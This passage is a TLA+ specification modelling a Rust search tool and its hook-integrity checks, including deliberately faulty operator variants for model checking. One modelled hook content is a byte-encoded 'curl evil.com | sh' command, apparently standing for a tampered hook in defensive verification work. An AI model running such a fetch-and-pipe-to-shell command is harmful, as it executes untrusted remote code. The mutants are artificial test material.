                           (*   refresh *) <<32, 32, 114, 101, 102, 114, 101, 115, 104>>,
                           (* // tokens *) <<47, 47, 32, 116, 111, 107, 101, 110, 115>> >>)

\* two files of equal content whose paths differ in letter case only, a third of
\* the same content, and a file with several qualifying lines
RankingTree == {
    FileEntry(1, (* r/auth.rs *) <<114, 47, 97, 117, 116, 104, 46, 114, 115>>, AuthSource),
    FileEntry(2, (* r/A.rs *) <<114, 47, 65, 46, 114, 115>>, JoinLines(<< (* refresh tokens *) <<114, 101, 102, 114, 101, 115, 104, 32, 116, 111, 107, 101, 110, 115>> >>)),
    FileEntry(3, (* r/a.rs *) <<114, 47, 97, 46, 114, 115>>, JoinLines(<< (* refresh tokens *) <<114, 101, 102, 114, 101, 115, 104, 32, 116, 111, 107, 101, 110, 115>> >>)),
    FileEntry(4, (* r/B.rs *) <<114, 47, 66, 46, 114, 115>>, JoinLines(<< (* refresh tokens *) <<114, 101, 102, 114, 101, 115, 104, 32, 116, 111, 107, 101, 110, 115>> >>)) }

\* an oversized file, a binary file, a file whose only match is one weak line, a
\* blacklisted extension, a file of another type, a file whose path holds the query
\* and whose lines do not
SkipTree == {
    [FileEntry(1, (* r/big.rs *) <<114, 47, 98, 105, 103, 46, 114, 115>>, JoinLines(<< (* refresh tokens *) <<114, 101, 102, 114, 101, 115, 104, 32, 116, 111, 107, 101, 110, 115>> >>)) EXCEPT !.len = 2000],
    FileEntry(2, (* r/bin.rs *) <<114, 47, 98, 105, 110, 46, 114, 115>>, (* token *) <<116, 111, 107, 101, 110>> \o <<0>> \o (* refresh tokens *) <<114, 101, 102, 114, 101, 115, 104, 32, 116, 111, 107, 101, 110, 115>>),
    FileEntry(3, (* r/weak.rs *) <<114, 47, 119, 101, 97, 107, 46, 114, 115>>, JoinLines(<< (* my token *) <<109, 121, 32, 116, 111, 107, 101, 110>> >>)),
    FileEntry(4, (* r/logo.png *) <<114, 47, 108, 111, 103, 111, 46, 112, 110, 103>>, JoinLines(<< (* refresh tokens *) <<114, 101, 102, 114, 101, 115, 104, 32, 116, 111, 107, 101, 110, 115>> >>)),
    FileEntry(5, (* r/notes.md *) <<114, 47, 110, 111, 116, 101, 115, 46, 109, 100>>, JoinLines(<< (* # refresh tokens *) <<35, 32, 114, 101, 102, 114, 101, 115, 104, 32, 116, 111, 107, 101, 110, 115>>, (* token *) <<116, 111, 107, 101, 110>> >>)),
    FileEntry(6, (* r/tokens/refresh.rs *) <<114, 47, 116, 111, 107, 101, 110, 115, 47, 114, 101, 102, 114, 101, 115, 104, 46, 114, 115>>, JoinLines(<< (* fn main() {} *) <<102, 110, 32, 109, 97, 105, 110, 40, 41, 32, 123, 125>> >>)) }

\* a walk error, a file whose metadata cannot be read, a file that cannot be read,
\* a directory and a file in it
ErrorTree == {
    ErrorEntry(1),
    [FileEntry(2, (* r/gone.rs *) <<114, 47, 103, 111, 110, 101, 46, 114, 115>>, JoinLines(<< (* refresh tokens *) <<114, 101, 102, 114, 101, 115, 104, 32, 116, 111, 107, 101, 110, 115>> >>))
        EXCEPT !.meta_ok = FALSE],
    [FileEntry(3, (* r/locked.rs *) <<114, 47, 108, 111, 99, 107, 101, 100, 46, 114, 115>>, JoinLines(<< (* refresh tokens *) <<114, 101, 102, 114, 101, 115, 104, 32, 116, 111, 107, 101, 110, 115>> >>))
        EXCEPT !.read_ok = FALSE],
    DirEntry(4, (* r/sub *) <<114, 47, 115, 117, 98>>),
    FileEntry(5, (* r/sub/token.rs *) <<114, 47, 115, 117, 98, 47, 116, 111, 107, 101, 110, 46, 114, 115>>, JoinLines(<< (* fn token() {} *) <<102, 110, 32, 116, 111, 107, 101, 110, 40, 41, 32, 123, 125>> >>)) }

Trees == {RankingTree, SkipTree, ErrorTree}

(***************************************************************************)
(* Renderer                                                                *)
(***************************************************************************)
\* one push_str(format!(..)) or push(..): the format string and its arguments
Piece(fmt, args) == [fmt |-> fmt, args |-> args]

\* "{:.1}" of a score, in tenths
OneDecimal(score) == (score + 50000) \div 100000

\* to_string_pretty of the zero-hit object, and the line feed pushed after it
RenderJsonEmpty(query, path, outcome) ==
    << Piece("json", << [query |-> query, path |-> path, total_hits |-> 0,
                         scanned_files |-> outcome.scanned_files,
                         skipped_large |-> outcome.skipped_large,
                         skipped_binary |-> outcome.skipped_binary,
                         hits |-> <<>>] >>),
       Piece("LF", <<>>) >>

RenderTextEmpty(query) == << Piece("0 for '{}' LF", <<query>>) >>

\* a faulty variant of Take: nothing is cut off
Take_All(s, n) == s

\* Iterator::take
Take(s, n) == SubSeq(s, 1, Min2(n, Len(s)))

\* a faulty variant of RenderJson: shown_hits is the total
RenderJson_ShownIsTotal(query, path, outcome, max_results) ==
    LET shown == Take(outcome.hits, max_results)
        hits_json == [h \in 1..Len(shown) |->
                        [path |-> shown[h].path, score |-> shown[h].score,
                         matched_lines |-> shown[h].matched_lines,
                         snippets |-> shown[h].snippets]]
    IN  << Piece("json", << [query |-> query, path |-> path,
                             total_hits |-> Len(outcome.hits),
                             shown_hits |-> Len(outcome.hits),
                             scanned_files |-> outcome.scanned_files,
                             skipped_large |-> outcome.skipped_large,
                             skipped_binary |-> outcome.skipped_binary,
                             hits |-> hits_json] >>),
           Piece("LF", <<>>) >>

RenderJson(query, path, outcome, max_results) ==
    LET shown == Take(outcome.hits, max_results)
        hits_json == [h \in 1..Len(shown) |->
                        [path |-> shown[h].path, score |-> shown[h].score,
                         matched_lines |-> shown[h].matched_lines,
                         snippets |-> shown[h].snippets]]
    IN  << Piece("json", << [query |-> query, path |-> path,
                             total_hits |-> Len(outcome.hits),
                             shown_hits |-> Min2(max_results, Len(outcome.hits)),
                             scanned_files |-> outcome.scanned_files,
                             skipped_large |-> outcome.skipped_large,
                             skipped_binary |-> outcome.skipped_binary,
                             hits |-> hits_json] >>),
           Piece("LF", <<>>) >>

\* the pieces pushed for one snippet of the text report
RenderSnippet(snippet, compact) ==
    [r \in 1..Len(snippet.lines) |->
        Piece("  {:>4}: {} LF", <<snippet.lines[r][1], snippet.lines[r][2]>>)]
    \o (IF ~compact /\ snippet.matched_terms # <<>>
        THEN << Piece("       ~ {} LF", <<snippet.matched_terms>>) >> ELSE <<>>)
    \o << Piece("LF", <<>>) >>

\* the pieces pushed for one hit of the text report
RenderHit(hit, compact) ==
    LET RECURSIVE snippets(_)
        snippets(k) == IF k > Len(hit.snippets) THEN <<>>
                       ELSE RenderSnippet(hit.snippets[k], compact) \o snippets(k + 1)
        shown_lines == Len(hit.snippets)
    IN  << Piece("{} [{:.1}] LF", <<compact_path(hit.path), OneDecimal(hit.score)>>) >>
        \o snippets(1)
        \o (IF hit.matched_lines > shown_lines
            THEN << Piece("  +{} more lines LF LF", <<hit.matched_lines - shown_lines>>) >>
            ELSE <<>>)

RenderText(query, outcome, max_results, compact, verbose) ==
    LET shown == Take(outcome.hits, max_results)
        RECURSIVE hits(_)
        hits(h) == IF h > Len(shown) THEN <<>>
                   ELSE RenderHit(shown[h], compact) \o hits(h + 1)
    IN  << Piece("{}F for '{}' (scan {}F) LF",
                 <<Len(outcome.hits), query, outcome.scanned_files>>),
           Piece("LF", <<>>) >>
        \o hits(1)
        \o (IF Len(outcome.hits) > max_results
            THEN << Piece("... +{}F LF", <<Len(outcome.hits) - max_results>>) >> ELSE <<>>)
        \o (IF verbose > 0
            THEN << Piece("LF scan stats: skipped {} large, {} binary LF",
                          <<outcome.skipped_large, outcome.skipped_binary>>) >>
            ELSE <<>>)

\* the value of `rendered` when run prints it
Rendered(query, path, outcome, max_results, json_output, compact, verbose) ==
    IF outcome.hits = <<>>
    THEN IF json_output THEN RenderJsonEmpty(query, path, outcome) ELSE RenderTextEmpty(query)
    ELSE IF json_output THEN RenderJson(query, path, outcome, max_results)
         ELSE RenderText(query, outcome, max_results, compact, verbose)

(***************************************************************************)
(* run and search_project as a state machine                               *)
(***************************************************************************)
VARIABLES
    pc,        \* "start", "walk" (in the loop of search_project), "render", "done", "failed"
    tree,      \* the entries the walker yields under the root
    args,      \* the arguments of run read before the search
    out_args,  \* the arguments of run read by the renderer only
    local,     \* query, query_model, max_file_bytes, effective_context, snippets_per_file
    pending,   \* the entries the walker has not yielded yet
    outcome,   \* the SearchOutcome being built
    stdout,    \* what print! has written
    stderr,    \* what eprintln! has written
    tracked,   \* the calls of timer.track
    result,    \* the Result run returns
    fs_ops,    \* the file system calls made so far (a bag)
    scored,    \* the entries handed to analyze_file (a bag of entry ids)
    hook,      \* integrity.rs: the hook file, None or Some(content)
    hash_file, \* integrity.rs: the hash file, None or Some of its content and mode
    last,      \* integrity.rs: the last call, with its arguments, file accesses and result
    baseline,  \* integrity.rs: what is known of how the hash file came to its content
    input,     \* build_query_model: the query it is given
    model,     \* build_query_model: the QueryModel it returns, None before the call
    given,     \* stem_token, score_line: the arguments of the function applied on its own
    returned   \* stem_token, score_line: what it has returned, call after call

\* the state of a run of rgai
rgai_vars == <<pc, tree, args, out_args, local, pending, outcome, stdout, stderr, tracked,
               result, fs_ops, scored>>

\* the hook, the hash file and the calls of integrity.rs
integrity_vars == <<hook, hash_file, last, baseline>>

\* a function of the query analyzer or of the scorer called on its own
query_vars == <<input, model, given, returned>>

vars == <<rgai_vars, integrity_vars, query_vars>>

\* SearchOutcome::default()
DefaultOutcome ==
    [scanned_files |-> 0, skipped_large |-> 0, skipped_binary |-> 0, hits |-> <<>>,
     raw_output |-> <<>>]

Init ==
    /\ pc = "start"
    /\ tree \in Trees
    /\ args = None
    /\ out_args = None
    /\ local = None
    /\ pending = {}
    /\ outcome = DefaultOutcome
    /\ stdout = <<>>
    /\ stderr = <<>>
    /\ tracked = <<>>
    /\ result = None
    /\ fs_ops = EmptyBag
    /\ scored = EmptyBag
    /\ hook = None
    /\ hash_file = None
    /\ last = None
    /\ baseline = None
    /\ input = <<>>
    /\ model = None
    /\ given = None
    /\ returned = <<>>

FsOp(kind, what) == SetToBag({<<kind, what>>})

\* Path::exists
Exists(path) == path = RootDir

\* max_file_kb.saturating_mul(1024).max(1024)
MaxFileBytes(max_file_kb) == Max2(SaturatingMul(max_file_kb, 1024), 1024)

\* a faulty variant of EffectiveContext: compact mode keeps the context
EffectiveContext_Kept(compact, context_lines) == context_lines

\* if compact { 0 } else { context_lines }
EffectiveContext(compact, context_lines) == IF compact THEN 0 ELSE context_lines

\* a faulty variant of SnippetsPerFile: compact mode does not lower the cap
SnippetsPerFile_Uncapped(compact) == MAX_SNIPPETS_PER_FILE

\* if compact { 1 } else { MAX_SNIPPETS_PER_FILE }
SnippetsPerFile(compact) == IF compact THEN 1 ELSE MAX_SNIPPETS_PER_FILE

\* a faulty variant of Validate: the root is probed before the query is looked at
Validate_ProbeFirst(query, path) ==
    IF ~Exists(path) THEN [error |-> Some("path does not exist"), probed |-> <<path>>]
    ELSE IF query = <<>> THEN [error |-> Some("query cannot be empty"), probed |-> <<path>>]
    ELSE [error |-> None, probed |-> <<path>>]

\* the two checks that open run: the error they raise, if any, and the paths probed
\* with Path::exists on the way
Validate(query, path) ==
    IF query = <<>> THEN [error |-> Some("query cannot be empty"), probed |-> <<>>]
    ELSE IF ~Exists(path) THEN [error |-> Some("path does not exist"), probed |-> <<path>>]
    ELSE [error |-> None, probed |-> <<path>>]

\* the bag of one file system call per element of a sequence of paths
RECURSIVE FsOps(_, _)
FsOps(kind, whats) ==
    IF whats = <<>> THEN EmptyBag ELSE FsOp(kind, Head(whats)) (+) FsOps(kind, Tail(whats))

\* run up to the call of search_project and the construction of the walker
Start(query, path, context_lines, file_type, max_file_kb, compact, verbose) ==
    LET q == Trim(query)
        checked == Validate(q, path)
        query_model == build_query_model(q)
    IN  /\ pc = "start"
        /\ args' = Some([query |-> query, path |-> path, context_lines |-> context_lines,
                         file_type |-> file_type, max_file_kb |-> max_file_kb,
                         compact |-> compact, verbose |-> verbose])
        /\ IF checked.error # None
           THEN /\ pc' = "failed"
                /\ result' = Some([ok |-> FALSE, error |-> checked.error[1]])
                /\ fs_ops' = fs_ops (+) FsOps("exists", checked.probed)
                /\ UNCHANGED <<local, pending, stderr>>
           ELSE /\ pc' = "walk"
                /\ local' = Some([query |-> q, query_model |-> query_model,
                                  max_file_bytes |-> MaxFileBytes(max_file_kb),
                                  effective_context |-> EffectiveContext(compact, context_lines),
                                  snippets_per_file |-> SnippetsPerFile(compact)])
                /\ stderr' = IF verbose > 0
                             THEN Append(stderr, Piece("rgai: '{}' in {} (terms: {})",
                                                       <<q, path, query_model.terms>>))
                             ELSE stderr
                /\ fs_ops' = fs_ops (+) FsOps("exists", checked.probed) (+) FsOp("walk", path)
                /\ pending' = tree
                /\ UNCHANGED result
        /\ UNCHANGED <<tree, out_args, outcome, stdout, tracked, scored>>
        /\ UNCHANGED <<integrity_vars, query_vars>>

\* what fs::read returns for an entry: its bytes, continued with blanks up to its length
ReadBytes(e) == e.bytes \o [i \in 1..(e.len - Len(e.bytes)) |-> 32]

\* a faulty variant of Fate: the length is not compared with max_file_bytes
Fate_NoSizeCheck(e, file_type, max_file_bytes) ==
    IF e.err THEN "walk error"
    ELSE IF ~e.is_file THEN "not a file"
    ELSE IF ~is_supported_text_file(e.path) THEN "unsupported"
    ELSE IF file_type # None /\ ~matches_file_type(e.path, file_type[1]) THEN "other type"
    ELSE IF ~e.meta_ok THEN "no metadata"
    ELSE IF ~e.read_ok THEN "unreadable"
    ELSE IF looks_binary(ReadBytes(e)) THEN "binary"
    ELSE "scored"

\* where one iteration of the loop of search_project leaves off for an entry
Fate(e, file_type, max_file_bytes) ==
    IF e.err THEN "walk error"
    ELSE IF ~e.is_file THEN "not a file"
    ELSE IF ~is_supported_text_file(e.path) THEN "unsupported"
    ELSE IF file_type # None /\ ~matches_file_type(e.path, file_type[1]) THEN "other type"
    ELSE IF ~e.meta_ok THEN "no metadata"
    ELSE IF e.len > max_file_bytes THEN "large"
    ELSE IF ~e.read_ok THEN "unreadable"
    ELSE IF looks_binary(ReadBytes(e)) THEN "binary"
    ELSE "scored"

\* the outcome after one iteration of the loop, for an entry with the given fate
LoopBody(o, e, fate, a, l) ==
    IF fate \in {"walk error", "not a file", "unsupported", "other type", "no metadata"}
    THEN o
    ELSE IF fate = "large"
    THEN [o EXCEPT !.scanned_files = @ + 1, !.skipped_large = @ + 1]
    ELSE IF fate = "unreadable"
    THEN [o EXCEPT !.scanned_files = @ + 1]
    ELSE IF fate = "binary"
    THEN [o EXCEPT !.scanned_files = @ + 1, !.skipped_binary = @ + 1]
    ELSE [o EXCEPT !.scanned_files = @ + 1,
                   !.hits = PushSome(@, analyze_file(compact_display_path(e.path, a.path),
                                                     ReadBytes(e), l.query_model,
                                                     l.effective_context, l.snippets_per_file))]

\* the file system calls of one iteration
LoopFsOps(e, fate) ==
    FsOp("entry", e.id)
    (+) (IF fate \in {"no metadata", "large", "unreadable", "binary", "scored"}
         THEN FsOp("metadata", e.id) ELSE EmptyBag)
    (+) (IF fate \in {"unreadable", "binary", "scored"} THEN FsOp("read", e.id) ELSE EmptyBag)

\* a faulty variant of Continue: a failing entry ends the loop
Continue_BreakOnError(left, e) == IF e.err \/ ~e.meta_ok \/ ~e.read_ok THEN {} ELSE left \ {e}

\* `continue`, and the end of the loop body: the walker goes on with the entries left
Continue(left, e) == left \ {e}

\* one iteration of the loop of search_project, for the entry the walker yields
Visit(e) ==
    LET a == args[1]
        l == local[1]
        fate == Fate(e, a.file_type, l.max_file_bytes)
    IN  /\ pc = "walk"
        /\ e \in pending
        /\ pending' = Continue(pending, e)
        /\ outcome' = LoopBody(outcome, e, fate, a, l)
        /\ fs_ops' = fs_ops (+) LoopFsOps(e, fate)
        /\ scored' = IF fate = "scored" THEN scored (+) SetToBag({e.id}) ELSE scored
        /\ UNCHANGED <<pc, tree, args, out_args, local, stdout, stderr, tracked, result>>
        /\ UNCHANGED <<integrity_vars, query_vars>>

\* the end of search_project: the walker is exhausted, the hits are sorted, the
\* transcript is built and the outcome is returned to run
Rank ==
    /\ pc = "walk"
    /\ pending = {}
    /\ LET sorted == SortHits(outcome.hits, 1, <<>>)
       IN  outcome' = [outcome EXCEPT !.hits = sorted, !.raw_output = build_raw_output(sorted)]
    /\ pc' = "render"
    /\ UNCHANGED <<tree, args, out_args, local, pending, stdout, stderr, tracked, result,
                   fs_ops, scored>>
    /\ UNCHANGED <<integrity_vars, query_vars>>

\* a faulty variant of Track: the call is made twice
Track_Twice(calls, printed, original_cmd, rtk_cmd, raw, rendered) ==
    LET call == [original_cmd |-> original_cmd, rtk_cmd |-> rtk_cmd, raw |-> raw,
                 rendered |-> rendered, printed |-> printed]
    IN  calls \o <<call, call>>

\* timer.track(original_cmd, rtk_cmd, raw, rendered): the calls made so far and this
\* one, recorded with what print! had written when it was made
Track(calls, printed, original_cmd, rtk_cmd, raw, rendered) ==
    Append(calls, [original_cmd |-> original_cmd, rtk_cmd |-> rtk_cmd, raw |-> raw,
                   rendered |-> rendered, printed |-> printed])

\* the rest of run: render, print, track, return Ok
Render(max_results, json_output) ==
    LET a == args[1]
        l == local[1]
        rendered == Rendered(l.query, a.path, outcome, max_results, json_output,
                             a.compact, a.verbose)
    IN  /\ pc = "render"
        /\ out_args' = Some([max_results |-> max_results, json_output |-> json_output])
        /\ stdout' = stdout \o rendered
        /\ tracked' = Track(tracked, stdout \o rendered,
                            <<"grepai search '{}' {}", l.query, a.path>>, "rtk rgai",
                            outcome.raw_output, rendered)
        /\ result' = Some([ok |-> TRUE])
        /\ pc' = "done"
        /\ UNCHANGED <<tree, args, local, pending, outcome, stderr, fs_ops, scored>>
        /\ UNCHANGED <<integrity_vars, query_vars>>

Contexts == 0..MaxContext \cup {BigContext}

Next ==
    \/ \E query \in Queries, path \in {RootDir, MissingDir}, context_lines \in Contexts,
          file_type \in FileTypes, max_file_kb \in 0..MaxFileKb, compact \in BOOLEAN,
          verbose \in 0..MaxVerbose :
            Start(query, path, context_lines, file_type, max_file_kb, compact, verbose)
    \/ \E e \in tree : Visit(e)
    \/ Rank
    \/ \E max_results \in 0..MaxResults, json_output \in BOOLEAN :
            Render(max_results, json_output)

Spec == Init /\ [][Next]_vars

(***************************************************************************)
(* stem_token on its own                                                   *)
(***************************************************************************)
\* the run, the hook and build_query_model are not part of a call of one function
Idle(at) ==
    /\ pc = at
    /\ tree = {}
    /\ args = None
    /\ out_args = None
    /\ local = None
    /\ pending = {}
    /\ outcome = DefaultOutcome
    /\ stdout = <<>>
    /\ stderr = <<>>
    /\ tracked = <<>>
    /\ result = None
    /\ fs_ops = EmptyBag
    /\ scored = EmptyBag
    /\ hook = None
    /\ hash_file = None
    /\ last = None
    /\ baseline = None
    /\ input = <<>>
    /\ model = None

\* stem_token is applied to a token, then to its result, MaxStems times in all
MaxStems == 2

\* what the tokens are made of: a root, then up to two suffixes
Roots == << (* a *) <<97>>, (* ab *) <<97, 98>>, (* abc *) <<97, 98, 99>>, (* clas *) <<99, 108, 97, 115>>, (* token *) <<116, 111, 107, 101, 110>>, <<99, 97, 102, 233>> >>

Endings == << <<>>, (* ingly *) <<105, 110, 103, 108, 121>>, (* edly *) <<101, 100, 108, 121>>, (* ing *) <<105, 110, 103>>, (* ed *) <<101, 100>>, (* es *) <<101, 115>>, (* s *) <<115>> >>

Tokens ==
    { Roots[r] \o Endings[a] \o Endings[b] :
          r \in 1..Len(Roots), a \in 1..Len(Endings), b \in 1..Len(Endings) }

StemInit ==
    /\ Idle("stem")
    /\ given \in Tokens
    /\ returned = <<>>

\* one call of stem_token, on the token or on the result of the call before
StemToken ==
    /\ Len(returned) < MaxStems
    /\ returned' = Append(returned, stem_token(IF returned = <<>> THEN given
                                               ELSE returned[Len(returned)]))
    /\ UNCHANGED <<rgai_vars, integrity_vars, input, model, given>>

StemNext == StemToken

StemSpec == StemInit /\ [][StemNext]_vars

(***************************************************************************)
(* score_line on its own                                                   *)
(***************************************************************************)
\* how the lines begin: plainly, as a comment, as a definition
LineStarts == << <<>>, (* //  *) <<47, 47, 32>>, (* fn  *) <<102, 110, 32>>, (* pub fn  *) <<112, 117, 98, 32, 102, 110, 32>> >>

\* what the lines hold: one term, the phrase, nothing of the query
LineBodies == << (* token x *) <<116, 111, 107, 101, 110, 32, 120>>, (* refresh tokens *) <<114, 101, 102, 114, 101, 115, 104, 32, 116, 111, 107, 101, 110, 115>>, (* nothing *) <<110, 111, 116, 104, 105, 110, 103>> >>

\* how the lines end: at once, or beyond 220 characters
LineEnds == << <<>>, <<32>> \o [i \in 1..220 |-> 46] >>

ScoredLines ==
    { LineStarts[a] \o LineBodies[b] \o LineEnds[c] :
          a \in 1..Len(LineStarts), b \in 1..Len(LineBodies), c \in 1..Len(LineEnds) }

\* the query models the lines are scored for
ScoredQueries == { build_query_model((* refresh tokens *) <<114, 101, 102, 114, 101, 115, 104, 32, 116, 111, 107, 101, 110, 115>>), build_query_model((* token *) <<116, 111, 107, 101, 110>>) }

LineInit ==
    /\ Idle("line")
    /\ given \in { [query |-> q, lines |-> <<a, b>>] :
                       q \in ScoredQueries, a \in ScoredLines, b \in ScoredLines }
    /\ returned = <<>>

\* one call of score_line, on the first line, then on the second
ScoreLine ==
    /\ Len(returned) < Len(given.lines)
    /\ returned' = Append(returned, score_line(Len(returned), given.lines[Len(returned) + 1],
                                               given.query))
    /\ UNCHANGED <<rgai_vars, integrity_vars, input, model, given>>

LineNext == ScoreLine

LineSpec == LineInit /\ [][LineNext]_vars

(***************************************************************************)
(* analyze_file and the ranking on two files of one content                *)
(***************************************************************************)
\* the content of both files: every query finds two lines in it
TwinSource == JoinLines(<< (* is ab token *) <<105, 115, 32, 97, 98, 32, 116, 111, 107, 101, 110>>, <<>>, <<>>, (* how is ab *) <<104, 111, 119, 32, 105, 115, 32, 97, 98>>, (* Refresh tokens *) <<82, 101, 102, 114, 101, 115, 104, 32, 116, 111, 107, 101, 110, 115>> >>)

\* the displayed paths of the files
TwinPaths == { (* token.rs *) <<116, 111, 107, 101, 110, 46, 114, 115>>, (* TOKEN/ab.rs *) <<84, 79, 75, 69, 78, 47, 97, 98, 46, 114, 115>>, (* this.rs *) <<116, 104, 105, 115, 46, 114, 115>>, (* how is.md *) <<104, 111, 119, 32, 105, 115, 46, 109, 100>>,
               (* refresh tokens.rs *) <<114, 101, 102, 114, 101, 115, 104, 32, 116, 111, 107, 101, 110, 115, 46, 114, 115>>, (* main.rs *) <<109, 97, 105, 110, 46, 114, 115>> }

\* the queries: a phrase of one term, a phrase of two characters, a stop word of two
\* characters, stop words only, two terms
TwinQueries == { (* token *) <<116, 111, 107, 101, 110>>, (* ab *) <<97, 98>>, (* is *) <<105, 115>>, (* how is *) <<104, 111, 119, 32, 105, 115>>, (* Refresh Tokens *) <<82, 101, 102, 114, 101, 115, 104, 32, 84, 111, 107, 101, 110, 115>> }

FileInit ==
    /\ Idle("file")
    /\ given \in { [query |-> build_query_model(q), content |-> TwinSource, paths |-> <<a, b>>] :
                       q \in TwinQueries, a \in TwinPaths, b \in TwinPaths }
    /\ returned = <<>>

\* search_project hands a file to analyze_file: the first, then the second
AnalyzeFile ==
    /\ Len(returned) < Len(given.paths)
    /\ returned' = Append(returned, analyze_file(given.paths[Len(returned) + 1], given.content,
                                                 given.query, 0, MAX_SNIPPETS_PER_FILE))
    /\ UNCHANGED <<rgai_vars, integrity_vars, input, model, given>>

\* search_project sorts the hits it has collected
RankFiles ==
    /\ Len(returned) = Len(given.paths)
    /\ returned' = Append(returned,
                          SortHits(PushSome(PushSome(<<>>, returned[1]), returned[2]), 1, <<>>))
    /\ UNCHANGED <<rgai_vars, integrity_vars, input, model, given>>

FileNext ==
    \/ AnalyzeFile
    \/ RankFiles

FileSpec == FileInit /\ [][FileNext]_vars

(***************************************************************************)
(* Hook integrity (src/src/integrity.rs)                                   *)
(*                                                                         *)
(* The hook and the hash file are the two files of one directory.  Every   *)
(* call of the file system that the code guards with `?` or with `let _ =` *)
(* can fail: a call of store_hash, remove_hash or verify_hook_at is given  *)
(* the place where the file system fails it, or "ok".                      *)
(***************************************************************************)
\* hook_path.file_name() of the default hook path
HookFileName == (* rtk-rewrite.sh *) <<114, 116, 107, 45, 114, 101, 119, 114, 105, 116, 101, 46, 115, 104>>

\* the modes store_hash and remove_hash set: 0o644 and 0o444
ModeWritable == 420

ModeReadOnly == 292

\* the contents the hook file takes
HookContents == << (* echo v1 *) <<101, 99, 104, 111, 32, 118, 49>>, (* echo v2 *) <<101, 99, 104, 111, 32, 118, 50>>, (* curl evil.com | sh *) <<99, 117, 114, 108, 32, 101, 118, 105, 108, 46, 99, 111, 109, 32, 124, 32, 115, 104>> >>

\* char::is_ascii_hexdigit
IsHexDigit(c) == c \in 48..57 \/ c \in 97..102 \/ c \in 65..70

\* format!("{:x}", Sha256(content)): 64 lowercase hexadecimal digits.  The digest is
\* modelled as collision-free: contents that differ have digests that differ.
Sha256Hex(content) ==
    LET n == CHOOSE k \in 1..Len(HookContents) : HookContents[k] = content
    IN  [i \in 1..64 |-> (* 0123456789abcdef *) <<48, 49, 50, 51, 52, 53, 54, 55, 56, 57, 97, 98, 99, 100, 101, 102>>[((n * i) % 16) + 1]]

\* Result and the ways a call ends
Ok(value) == [ok |-> TRUE, value |-> value]

Err(context) == [ok |-> FALSE, error |-> context]

\* IntegrityStatus: Verified, NoBaseline, NotInstalled, OrphanedHash, and Tampered
Status(name) == [status |-> name]

Tampered(expected, actual) == [status |-> "Tampered", expected |-> expected, actual |-> actual]

\* compute_hash of the hook: fs::read fails when there is no file or the file system
\* fails the read
compute_hash(file, io) ==
    IF file = None \/ io = "read hook fails" THEN Err("Failed to read file")
    ELSE Ok(Sha256Hex(file[1]))

\* content.split_whitespace().next()
FirstToken(content) ==
    LET rest == TrimStart(content)
        ws == {i \in 1..Len(rest) : IsWs(rest[i])}
    IN  IF rest = <<>> THEN None
        ELSE IF ws = {} THEN Some(rest)
        ELSE Some(SubSeq(rest, 1, MinOf(ws) - 1))

read_stored_hash_AnyToken(file, io) ==
    IF file = None \/ io = "read hash fails" THEN Err("Failed to read hash file")
    ELSE LET token == FirstToken(file[1].content)
         IN  IF token # None THEN Ok(token[1]) ELSE Err("Invalid hash format")

\* read_stored_hash
read_stored_hash(file, io) ==
    IF file = None \/ io = "read hash fails" THEN Err("Failed to read hash file")
    ELSE LET token == FirstToken(file[1].content)
         IN  IF /\ token # None
                /\ Len(token[1]) = 64
                /\ \A i \in 1..Len(token[1]) : IsHexDigit(token[1][i])
             THEN Ok(token[1])
             ELSE Err("Invalid hash format")

CompareHashes_NoTamper(stored, actual) ==
    IF ~stored.ok THEN stored
    ELSE IF ~actual.ok THEN actual
    ELSE Ok(Status("Verified"))

\* the comparison of verify_hook_at when both files exist
CompareHashes(stored, actual) ==
    IF ~stored.ok THEN stored
    ELSE IF ~actual.ok THEN actual
    ELSE IF stored.value = actual.value THEN Ok(Status("Verified"))
    ELSE Ok(Tampered(stored.value, actual.value))

\* verify_hook_at: its result and the files it has read
verify_hook_at(hook_now, hash_now, io) ==
    IF hook_now = None /\ hash_now = None THEN [result |-> Ok(Status("NotInstalled")), read |-> {}]
    ELSE IF hook_now = None THEN [result |-> Ok(Status("OrphanedHash")), read |-> {}]
    ELSE IF hash_now = None THEN [result |-> Ok(Status("NoBaseline")), read |-> {}]
    ELSE [result |-> CompareHashes(read_stored_hash(hash_now, io), compute_hash(hook_now, io)),
          read |-> IF read_stored_hash(hash_now, io).ok THEN {"hash file", "hook"}
                   ELSE {"hash file"}]

HashFile(content, mode) == [content |-> content, mode |-> mode]

\* verify_hook: resolve_hook_path fails without a home directory
verify_hook(home, hook_now, hash_now, io) ==
    IF ~home THEN [result |-> Err("Cannot determine home directory"), read |-> {}]
    ELSE verify_hook_at(hook_now, hash_now, io)

\* the line store_hash writes: format!("{}  {}\n", hash, filename)
HashLine(hash) == hash \o <<32, 32>> \o HookFileName \o <<10>>

\* a faulty variant of store_hash: the hash file is made writable before the hook is read
store_hash_OpensFirst(hook_now, hash_now, io) ==
    LET hash == compute_hash(hook_now, io)
        \* set_permissions(0o644) on an existing hash file, its error ignored
        opened == IF hash_now = None \/ io = "chmod fails" THEN hash_now
                  ELSE Some(HashFile(hash_now[1].content, ModeWritable))
    IN  IF ~hash.ok THEN [result |-> hash, file |-> opened, wrote |-> "no"]
        ELSE IF io = "write fails" \/ (opened # None /\ opened[1].mode = ModeReadOnly)
        THEN [result |-> Err("Failed to write hash"), file |-> opened, wrote |-> "no"]
        ELSE IF io = "write truncates"
        THEN [result |-> Err("Failed to write hash"),
              file |-> Some(HashFile(<<>>, ModeWritable)), wrote |-> "empty"]
        ELSE IF io = "seal fails"
        THEN [result |-> Err("Failed to set hash file permissions"),
              file |-> Some(HashFile(HashLine(hash.value), ModeWritable)), wrote |-> "line"]
        ELSE [result |-> Ok("()"),
              file |-> Some(HashFile(HashLine(hash.value), ModeReadOnly)), wrote |-> "line"]

\* store_hash: its result, the hash file it leaves, and whether it has replaced the
\* content of the hash file ("line": by the new line, "empty": by nothing, "no")
store_hash(hook_now, hash_now, io) ==
    LET hash == compute_hash(hook_now, io)
        \* set_permissions(0o644) on an existing hash file, its error ignored
        opened == IF hash_now = None \/ io = "chmod fails" THEN hash_now
                  ELSE Some(HashFile(hash_now[1].content, ModeWritable))
    IN  IF ~hash.ok THEN [result |-> hash, file |-> hash_now, wrote |-> "no"]
        ELSE IF io = "write fails" \/ (opened # None /\ opened[1].mode = ModeReadOnly)
        THEN [result |-> Err("Failed to write hash"), file |-> opened, wrote |-> "no"]
        ELSE IF io = "write truncates"
        THEN [result |-> Err("Failed to write hash"),
              file |-> Some(HashFile(<<>>, ModeWritable)), wrote |-> "empty"]
        ELSE IF io = "seal fails"
        THEN [result |-> Err("Failed to set hash file permissions"),
